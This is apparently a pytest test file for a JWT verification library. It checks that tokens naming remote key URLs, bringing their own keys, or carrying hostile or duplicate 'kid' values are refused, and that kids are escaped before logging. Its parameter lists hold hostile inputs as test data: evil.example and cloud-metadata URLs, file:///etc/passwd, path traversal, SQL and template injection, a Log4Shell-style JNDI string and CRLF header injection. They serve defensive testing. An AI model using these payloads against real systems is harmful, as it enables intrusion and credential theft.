"""A token names a `kid` and nothing more; keys come from the configured set of the one issuer."""

from typing import Any

import pytest

from watchword.errors import KeyUnknown, KeyUnusable, SignatureInvalid, TokenMalformed
from watchword.tokens.jwk import PublicKey
from watchword.tokens.jwk_set import JWKSet, printable
from watchword.tokens.jws import MAX_KID_LENGTH
from watchword.tokens.private_key import PrivateKey

HOSTILE_URLS = [
    "https://evil.example/jwks.json",
    "http://169.254.169.254/latest/meta-data",
    "file:///etc/passwd",
    "data:application/json,{}",
    "https://id.example@evil.example/keys",
    "//evil.example",
    "",
]


@pytest.mark.threat(11)
@pytest.mark.parametrize("member", ["jku", "x5u"])
@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_a_token_that_brings_the_address_of_its_key_is_refused(forge: Any, member: str, url: str) -> None:
    # signed by the genuine key: nothing but the member itself is wrong
    forge.refused(forge.with_header(**{member: url}), TokenMalformed)


@pytest.mark.threat(11)
def test_a_token_that_brings_its_own_key_is_refused(forge: Any) -> None:
    attacker = PrivateKey.generate("ES256")
    own_header = forge.header() | {"jwk": dict(attacker.public.jwk)}
    signing_input = forge.sign(own_header, forge.claims()).rpartition(".")[0].encode()
    forge.keys["attacker"] = attacker
    try:
        forge.refused(forge.sign_text(signing_input, "attacker"), TokenMalformed)
        forge.refused(forge.sign(forge.header(kid=attacker.kid), forge.claims(), "attacker"), KeyUnknown)
        forge.refused(forge.sign(forge.header(), forge.claims(), "attacker"), SignatureInvalid)
    finally:
        del forge.keys["attacker"]
    # and the same members over a genuine signature
    for member, value in (
        ("jwk", dict(forge.keys["ES256"].public.jwk)),
        ("x5c", ["MIIB"]),
        ("jwk", None),
        ("x5c", []),
    ):
        forge.refused(forge.with_header(**{member: value}), TokenMalformed)


HOSTILE_KIDS = [
    "../../../../dev/null",
    "/etc/passwd",
    "ES256' OR '1'='1",
    "https://evil.example/ES256",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "ES256\u0000",
    "ES256\r\nSet-Cookie: a=b",
    ".*",
    "ES25?",
    "*",
    "%",
    "es256",
    "ES25",
    "ES2566",
    " ES256",
    "ES256 ",
    "\u202eES256",
    "constructor",
    "__proto__",
    "__class__",
    "x" * MAX_KID_LENGTH,
]


@pytest.mark.threat(12)
@pytest.mark.parametrize("kid", HOSTILE_KIDS)
def test_a_kid_is_looked_up_as_exact_text_and_told_escaped(forge: Any, kid: str) -> None:
    error = forge.refused(forge.with_header(kid=kid), KeyUnknown)
    assert error.kid == kid
    told = str(error).removeprefix("no key has kid ")
    assert told == printable(kid)
    assert len(kid.encode("unicode_escape")) > 64 or told.isascii()


@pytest.mark.threat(12)
@pytest.mark.parametrize("kid", [7, 1.5, None, True, ["ES256"], {"kid": "ES256"}, ""])
def test_a_kid_that_is_no_text_is_malformed(forge: Any, kid: Any) -> None:
    forge.refused(forge.with_header(kid=kid), TokenMalformed)


@pytest.mark.threat(12, 56)
@pytest.mark.parametrize("length", [MAX_KID_LENGTH + 1, 9_000, 64 * 1024])
def test_an_endless_kid_is_malformed_and_not_kept_in_the_error(forge: Any, length: int) -> None:
    error = forge.refused(forge.with_header(kid="k" * length), TokenMalformed)
    assert "kkkk" not in str(error)
    assert not hasattr(error, "kid")


@pytest.mark.threat(12)
def test_a_kid_is_logged_as_one_escaped_line_of_64_characters() -> None:
    assert printable("a\r\nb\x00\u202e") == r"'a\r\nb\x00\u202e'"
    assert printable("k" * 64) == f"'{'k' * 64}'"
    assert printable("k" * 65) == f"'{'k' * 63}\\u2026'"


@pytest.mark.threat(13)
def test_without_kid_no_key_is_tried(forge: Any) -> None:
    token = forge.with_header(without=("kid",))
    forge.refused(token, KeyUnusable)
    forge.refused(token, KeyUnusable, keys=forge.fresh_set("ES256"))  # not even the only one
    forge.refused(token, KeyUnusable, policy=forge.policy(missing_kid="single_key"))
    one = forge.fresh_set("ES256")
    assert forge.verify(token, keys=one, policy=forge.policy(missing_kid="single_key"))
    assert not one.known_headers, "such a header means something else under another policy"
    forge.refused(token, KeyUnusable, keys=one)


@pytest.mark.threat(13)
def test_a_single_key_without_kid_serves_tokens_without_kid(forge: Any) -> None:
    nameless = PublicKey(forge.keys["ES256"].public.material, kid=None, alg="ES256")
    single = forge.policy(missing_kid="single_key")
    assert len(JWKSet([nameless])) == 1
    assert forge.verify(forge.with_header(without=("kid",)), keys=JWKSet([nameless]), policy=single)
    two = JWKSet([nameless, forge.keys["ES384"].public])
    forge.refused(forge.with_header(without=("kid",)), KeyUnusable, keys=two, policy=single)
    forge.refused(forge.with_header(kid="named"), KeyUnknown, keys=JWKSet([nameless]), policy=single)


@pytest.mark.threat(14)
def test_two_keys_with_one_kid_verify_nothing_and_are_reported(forge: Any) -> None:
    genuine = forge.keys["ES256"].public
    other = PublicKey.from_material(PrivateKey.generate("ES256").public.material, kid="ES256", alg="ES256")
    bystander = forge.keys["ES384"].public
    for pair in ([genuine, other], [other, genuine], [genuine, genuine], [genuine, other, genuine]):
        for keys in (
            JWKSet([*pair, bystander]),
            JWKSet.from_dict({"keys": [dict(key.jwk) for key in (*pair, bystander)]}),
        ):
            forge.refused(forge.token("ES256"), KeyUnusable, keys=keys)
            assert "ES256" not in keys
            assert {(bad.kid, bad.reason) for bad in keys.unusable} == {("ES256", "two keys have this kid")}
            assert forge.verify(forge.token("ES384"), keys=keys), "the other keys go on working"


@pytest.mark.threat(14)
def test_an_unusable_key_with_the_kid_of_a_good_one_makes_both_unusable(forge: Any) -> None:
    good = dict(forge.keys["ES256"].public.jwk)
    bad = good | {"use": "enc"}
    for members in ([good, bad], [bad, good]):
        keys = JWKSet.from_dict({"keys": members})
        forge.refused(forge.token("ES256"), KeyUnusable, keys=keys)
        assert len(keys.unusable) == 2


@pytest.mark.threat(12, 13)
def test_a_set_knows_its_keys_by_name(forge: Any) -> None:
    keys = forge.fresh_set("ES256", "ES384")
    assert len(keys) == 2
    assert "ES256" in keys
    assert keys.named("ES256") is forge.keys["ES256"].public
    with pytest.raises(KeyUnknown) as unknown:
        keys.named("ES512")
    assert unknown.value.kid == "ES512"


@pytest.mark.threat(11, 12)
def test_the_guard_of_these_tests_hears_a_file_and_a_name_look_up(forge: Any) -> None:
    class Curious(JWKSet):
        def named(self, kid: str) -> PublicKey:
            import socket

            try:
                open(kid).close()
            except OSError:
                socket.getaddrinfo("127.0.0.1", 80)
            return super().named(kid)

    curious = Curious(forge.fresh_set("ES256").keys)
    with pytest.raises(AssertionError, match=r"reached outside: .*'open'.*'socket.getaddrinfo'"):
        forge.verify(forge.token(), keys=curious)


@pytest.mark.threat(13)
def test_of_two_keys_that_would_both_fit_none_is_tried(forge: Any) -> None:
    single = forge.policy(missing_kid="single_key")
    genuine = forge.keys["ES256"].public
    other = PrivateKey.generate("ES256").public
    bare = forge.with_header(without=("kid",))
    for pair in ([genuine, other], [other, genuine]):
        forge.refused(bare, KeyUnusable, keys=JWKSet(pair), policy=single)
    forge.refused(bare, KeyUnusable, keys=JWKSet(()), policy=single)
